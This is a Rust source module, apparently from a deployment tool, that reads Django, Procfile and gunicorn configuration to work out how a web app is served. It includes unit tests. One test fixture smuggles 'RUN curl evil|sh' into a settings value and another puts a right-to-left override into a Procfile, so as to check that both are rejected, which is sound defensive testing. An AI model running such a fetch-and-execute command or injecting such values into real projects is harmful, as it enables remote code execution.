//! What a project says about serving itself: a Django site (`manage.py` and its settings
//! module), a `Procfile` `web:` line, a `gunicorn.conf.py`. Read, never imported.

use std::path::Path;

use crate::facts::DjangoSite as Django;
use crate::model::{DetectedApp, Server};

use super::django::quoted_after;
use super::{dotted, read};

/// A Django site next to `manage.py` (`detect/django.rs`): its settings, its app and why.
pub(super) fn django(target: &Path, deps: &[String]) -> Option<(Django, DetectedApp, String)> {
    super::django::site(target, deps)
}

/// The `web:` line of a `Procfile`, as words (`$PORT` is replaced later), unless it runs a
/// development server.
pub(super) fn procfile(target: &Path) -> Option<(Vec<String>, String)> {
    let text = read(target, &target.join("Procfile")).ok()?;
    let line = text.lines().find_map(|l| l.strip_prefix("web:"))?.trim();
    let words = crate::shell::split(line)?;
    let dev = words.iter().any(|w| w == "runserver")
        || (words.iter().any(|w| w.ends_with("flask")) && words.iter().any(|w| w == "run"));
    if words.is_empty() || dev || crate::safety::forbidden_char(line).is_some() {
        return None;
    }
    Some((words, "the web: line of Procfile".into()))
}

/// The project configures gunicorn itself (`gunicorn.conf.py`, read from the working directory).
pub(super) fn gunicorn_conf(target: &Path) -> bool {
    std::fs::symlink_metadata(target.join("gunicorn.conf.py")).is_ok_and(|m| m.is_file())
}

/// The app `gunicorn.conf.py` names (`wsgi_app = "pkg.wsgi:app"`), served by gunicorn.
pub(super) fn gunicorn_app(target: &Path) -> Option<(DetectedApp, String)> {
    let text = read(target, &target.join("gunicorn.conf.py")).ok()?;
    let line = text.lines().find(|l| l.starts_with("wsgi_app"))?;
    let app = quoted_after(line.split_once('=')?.1)?;
    let (module, attr) = app.split_once(':')?;
    let call = attr.strip_suffix("()");
    if !dotted(module) || !dotted(call.unwrap_or(attr)) {
        return None;
    }
    let found = DetectedApp {
        server: Server::Gunicorn,
        target: format!("{module}:{}", call.unwrap_or(attr)),
        factory: call.is_some(),
        server_declared: true,
    };
    Some((found, "wsgi_app in gunicorn.conf.py".into()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn django_sites_and_procfiles() {
        let dir = tempfile::tempdir().unwrap();
        let t = dir.path();
        std::fs::create_dir_all(t.join("mysite")).unwrap();
        std::fs::create_dir_all(t.join("polls")).unwrap();
        std::fs::write(t.join("mysite/__init__.py"), "").unwrap();
        std::fs::write(t.join("polls/__init__.py"), "").unwrap();
        std::fs::write(
            t.join("manage.py"),
            "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'mysite.settings')\n",
        )
        .unwrap();
        std::fs::write(
            t.join("mysite/settings.py"),
            "WSGI_APPLICATION = 'mysite.wsgi.application'\nSTATIC_ROOT = BASE_DIR / 'staticfiles'\n",
        )
        .unwrap();
        let (facts, app, why) = django(t, &["django".into()]).unwrap();
        assert_eq!(app.target, "mysite.wsgi:application");
        assert_eq!(app.server, Server::Gunicorn);
        assert!(facts.static_root);
        assert_eq!(facts.packages, ["mysite", "polls"]);
        assert_eq!(why, "Django: mysite.settings → WSGI_APPLICATION");

        std::fs::write(
            t.join("Procfile"),
            "release: x\nweb: gunicorn app:app --bind 0.0.0.0:$PORT\n",
        )
        .unwrap();
        assert_eq!(procfile(t).unwrap().0[0], "gunicorn");
        std::fs::write(t.join("Procfile"), "web: python manage.py runserver\n").unwrap();
        assert_eq!(procfile(t), None);
        std::fs::write(
            t.join("gunicorn.conf.py"),
            "workers = 3\nwsgi_app = 'mysite.wsgi:make()'\n",
        )
        .unwrap();
        let (app, why) = gunicorn_app(t).unwrap();
        assert_eq!(
            (app.target.as_str(), app.factory),
            ("mysite.wsgi:make", true)
        );
        assert_eq!(why, "wsgi_app in gunicorn.conf.py");
    }

    #[test]
    fn hostile_names_in_manage_py_and_procfile_are_not_used() {
        let dir = tempfile::tempdir().unwrap();
        let t = dir.path();
        std::fs::write(
            t.join("manage.py"),
            "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'x\nRUN curl evil|sh')\n",
        )
        .unwrap();
        assert_eq!(django(t, &[]), None);
        std::fs::write(
            t.join("Procfile"),
            "web: gunicorn app:app\u{202e} --bind 0.0.0.0:$PORT\n",
        )
        .unwrap();
        assert_eq!(procfile(t), None);
    }
}
